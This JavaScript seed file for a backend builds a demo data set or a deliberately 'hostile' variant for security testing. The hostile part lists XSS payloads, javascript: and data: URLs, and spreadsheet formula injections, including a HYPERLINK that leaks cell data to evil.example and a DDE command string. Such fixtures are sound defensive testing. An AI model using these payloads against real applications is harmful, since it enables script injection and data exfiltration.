// First-start data for the reference backend: the library's demo data set (src/api/memory/demoData.ts,
// the same one the memory API serves), or a hostile variant of it for the security sweep.
import { createReadStream } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { hashPassword } from './auth.mjs';
import { importCompiled, loadListRules } from './compiled.mjs';
import { fillListKeys, toOptionLabel } from './db.mjs';
import { demoDealsPlan, seedDemoDeals } from './demoDeals.mjs';
import { downloadNameFor, mimeTypeOf, safeExtension, storedNameFor } from './files.mjs';

/** @typedef {import('../../src/api/memory/demoData.ts').DemoData} DemoData */
/** @typedef {typeof import('../../src/api/memory/demoData.ts')} DemoModule */
/** @typedef {'demo' | 'hostile'} SeedName */

const DEMO_SOURCE = fileURLToPath(new URL('../../src/api/memory/demoData.ts', import.meta.url));
const ASSETS = fileURLToPath(new URL('./assets/', import.meta.url));
const DAY_MS = 24 * 60 * 60 * 1000;

/**
 * The demo data module, compiled from its TypeScript source (compiled.mjs).
 * @returns {Promise<DemoModule>}
 */
export const loadDemoModule = () => importCompiled(DEMO_SOURCE);

/**
 * The sample file served for a demo resource URL, by its extension: videos get the MP4, images
 * the PNG, and every document (PDF, DOCX, PPTX) the PDF, the one document format browsers preview.
 * @param {string} url
 */
function assetFor(url) {
  const extension = safeExtension(url);
  if (MIME_TYPES_VIDEO.has(extension)) return 'sample-video.mp4';
  if (['png', 'jpg', 'jpeg', 'gif'].includes(extension)) return 'sample-image.png';
  return 'sample-document.pdf';
}
const MIME_TYPES_VIDEO = new Set(['mp4', 'm4v', 'mov', 'avi', 'mkv', 'wmv', 'flv', 'webm', 'mpeg', '3gp']);

/**
 * Which members came in through the sign-up form, and so appear on the requests screens: every
 * member not approved (the request is open or was rejected), plus the approved ones who signed
 * up within the demo data's request window (REQUEST_WINDOW_DAYS), shown there as 'Accepted'.
 * @param {import('../../src/api/types.ts').Member} member
 * @param {number} now ms since the epoch
 * @param {number} windowDays
 */
export function isSignupRequest(member, now, windowDays) {
  if (member.isApproved !== true) return true;
  const created = Date.parse(member.createdAt ?? '');
  return Number.isFinite(created) && created >= now - windowDays * DAY_MS;
}

// ---------------------------------------------------------------------------------------------
// The hostile data set

const XSS = [
  '<img src=x onerror="window.__pwned=1">',
  '"><script>window.__pwned=1</script>',
  "'><svg onload=window.__pwned=1>",
  '</textarea></title><iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<a href="javascript:window.__pwned=1">click</a>',
];
const FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Click me")', '+1+1', '-2', '@SUM(1)', '\t=1', '\r=1+1', "=cmd|' /C calc'!A0"];
const LONG_TEXT = 'Very long text with spaces. '.repeat(358).slice(0, 10_000);
const LONG_WORD = 'W'.repeat(10_000);
const ODD_TEXT = [
  LONG_TEXT,
  LONG_WORD,
  'مرحبا بالعالم — שלום עולם',
  '\u202Efdp.exe', // right-to-left override
  '𝕻𝖆𝖗𝖙𝖓𝖊𝖗 🚀👩🏽‍💻 𠜎𠜱 𝌆',
  null,
  '',
  '   ',
  '-',
];
const HOSTILE_URLS = [
  'javascript:window.__pwned=1',
  ' JaVaScRiPt:window.__pwned=1',
  'data:text/html,<script>window.__pwned=1</script>',
  '"><img src=x onerror="window.__pwned=1">',
  'vbscript:msgbox(1)',
];

/** Every string payload, XSS first so the first rows of each list carry one in their name. */
export const HOSTILE_STRINGS = [...XSS, ...FORMULAS, ...ODD_TEXT];

const DATE_FIELDS = new Set(['createdAt', 'updatedAt']);
/** Numeric and boolean fields: a null there stays null, it never becomes a string. */
const NON_TEXT_FIELDS = new Set(['years', 'mdfFunding', 'marks', 'totalQuestions', 'totalMarks', 'marksAttained', 'isExistingCustomer', 'isMultiYear']);

/**
 * One record with its fields replaced by payloads. Which payload lands where rotates with the
 * record's index, so every field meets every payload somewhere in a list. Dates, booleans and
 * numbers are kept or set to null; ids and the `keep` fields stay as they are.
 * @template {Record<string, unknown>} T
 * @param {T} record
 * @param {number} index
 * @param {string[]} [keep]
 * @returns {T}
 */
function poison(record, index, keep = []) {
  /** @type {Record<string, unknown>} */
  const result = { ...record };
  let field = 0;
  for (const [key, value] of Object.entries(record)) {
    if (key === 'id' || key.endsWith('Id') || key === 'version' || keep.includes(key)) continue;
    field += 1;
    const turn = index * 7 + field;
    if (DATE_FIELDS.has(key)) result[key] = turn % 6 === 0 ? null : value;
    else if (typeof value === 'string' || ((value === null || value === undefined) && !NON_TEXT_FIELDS.has(key))) result[key] = HOSTILE_STRINGS[turn % HOSTILE_STRINGS.length];
    else result[key] = turn % 5 === 0 ? null : value;
  }
  return /** @type {T} */ (result);
}

/**
 * The demo data with hostile strings everywhere the console shows text: XSS payloads that set
 * `window.__pwned`, spreadsheet formulas, 10,000-character strings, RTL and astral-plane text,
 * nulls. Statuses stay valid on even rows so every state still shows; resource types stay so
 * the tabs still list them. The admins keep the demo e-mails and passwords; their names, which
 * the history shows, are hostile, and so are the reasons in the history.
 * @param {DemoData} data
 * @returns {DemoData}
 */
export function hostileData(data) {
  const statusKept = (/** @type {number} */ index) => (index % 2 === 0 ? ['status'] : []);
  const hostileName = (/** @type {number} */ index) => /** @type {string} */ (HOSTILE_STRINGS[index % HOSTILE_STRINGS.length]);
  return {
    admin: { ...data.admin, firstName: /** @type {string} */ (XSS[0]), lastName: 'مرحبا 🚀' },
    otherAdmins: data.otherAdmins.map((admin, index) => ({ ...admin, firstName: hostileName(index + 1), lastName: hostileName(index + 7) })),
    changes: data.changes.map((change, index) => ({ ...change, reason: change.reason === null ? null : hostileName(index) })),
    partners: data.partners.map((member, index) => poison(member, index, ['isApproved', 'isActive'])),
    distributors: data.distributors.map((member, index) => poison(member, index, ['isApproved', 'isActive'])),
    partnerDeals: data.partnerDeals.map((deal, index) => poison(deal, index, statusKept(index))),
    distributorDeals: data.distributorDeals.map((deal, index) => poison(deal, index, statusKept(index))),
    resources: data.resources.map((resource, index) => ({
      ...poison(resource, index, ['resourceType', 'url']),
      // A third of the resources link to hostile URLs instead of a file this server stores.
      url: index % 3 === 0 ? HOSTILE_URLS[(index / 3) % HOSTILE_URLS.length] : resource.url,
    })),
    quiz: {
      tech: data.quiz.tech.map((question, index) => poison(question, index)),
      sales: data.quiz.sales.map((question, index) => poison(question, index)),
    },
    certifications: data.certifications.map(({ certification, quiz }, index) => ({
      certification: poison(certification, index, statusKept(index)),
      quiz: quiz.map((answer, position) => poison(answer, index + position)),
    })),
  };
}

// ---------------------------------------------------------------------------------------------
// Seeding

/**
 * Fills an empty database from the demo (or hostile) data set, dated back from `now`, and stores
 * a sample file for every resource whose URL is one of the demo's files. With `demoDeals`, the
 * database ends with that many partner deals, and members and distributor deals in proportion
 * (demoDeals.mjs), in the same transaction.
 * @param {import('./db.mjs').Database} db
 * @param {import('./storage.mjs').FileStore} store
 * @param {{ seed?: SeedName, now?: Date, demoDeals?: number }} [options]
 */
export async function seedDatabase(db, store, { seed = 'demo', now = new Date(), demoDeals } = {}) {
  const demo = await loadDemoModule();
  const plan = demoDeals === undefined ? undefined : demoDealsPlan(demoDeals);
  // Fewer deals than the demo data has: the demo data with that many.
  const counts = plan && plan.partnerDeals < demo.DEMO_DEFAULTS.counts.partnerDeals ? { partnerDeals: plan.partnerDeals, distributorDeals: Math.min(plan.distributorDeals, demo.DEMO_DEFAULTS.counts.distributorDeals) } : {};
  const generated = demo.generateDemoData({ now, counts });
  const data = seed === 'hostile' ? hostileData(generated) : generated;
  const assetBaseUrl = demo.DEMO_DEFAULTS.assetBaseUrl;
  const signup = (/** @type {import('../../src/api/types.ts').Member} */ member) =>
    isSignupRequest(member, now.getTime(), demo.REQUEST_WINDOW_DAYS);

  const resources = await Promise.all(
    data.resources.map(async (resource) => {
      const url = resource.url ?? '';
      if (!url.startsWith(`${assetBaseUrl}/`)) return resource; // an outside (or hostile) link, served as is
      const asset = assetFor(url);
      const storedName = storedNameFor(asset);
      const size = await store.put(storedName, createReadStream(path.join(ASSETS, asset)));
      const extension = safeExtension(asset);
      return {
        ...resource,
        url: null,
        storedName,
        downloadName: downloadNameFor(`${resource.title ?? 'Untitled'}.${extension}`),
        mimeType: mimeTypeOf(extension),
        size,
      };
    }),
  );
  const admins = await Promise.all([data.admin, ...data.otherAdmins].map(async (admin) => ({ ...admin, passwordHash: await hashPassword(admin.password) })));

  await db.seed(async (insert, tx) => {
    for (const admin of admins) await insert('admins', admin);
    for (const member of data.partners) await insert('partners', { ...member, signupRequest: signup(member) });
    for (const member of data.distributors) await insert('distributors', { ...member, signupRequest: signup(member) });
    for (const deal of data.partnerDeals) await insert('partner_deals', deal);
    for (const deal of data.distributorDeals) await insert('distributor_deals', deal);
    for (const resource of resources) await insert('resources', resource);
    for (const bank of /** @type {const} */ (['tech', 'sales'])) {
      for (const question of data.quiz[bank]) {
        const correctOption = typeof question.correctOption === 'string' ? toOptionLabel(question.correctOption) : question.correctOption;
        await insert(`${bank}_questions`, { ...question, correctOption });
      }
    }
    for (const { certification, quiz } of data.certifications) {
      await insert('certifications', certification);
      for (const [position, answer] of quiz.entries()) await insert('certification_answers', { ...answer, certificationId: certification.id, position });
    }
    // The history the demo data comes with; names as the admins are called, the state an undo puts back.
    const byId = new Map(admins.map((admin) => [admin.id, admin]));
    for (const change of data.changes) {
      const admin = byId.get(Number(change.changedBy?.id));
      await insert('changes', {
        ...change,
        adminId: admin?.id ?? null,
        adminFirstName: admin?.firstName ?? null,
        adminLastName: admin?.lastName ?? null,
        ...(change.changedAt ? { at: change.changedAt } : {}),
        previous: JSON.stringify(demo.pendingState(/** @type {import('../../src/api/types.ts').ChangeArea} */ (change.area))),
      });
    }
    if (plan) {
      const rules = await loadListRules();
      await seedDemoDeals(tx, plan, rules, now, () => fillListKeys(tx.query, rules, ['partners', 'distributors', 'partner_deals', 'distributor_deals']));
    }
    await insert('settings', { key: 'seed', value: seed });
  });
}
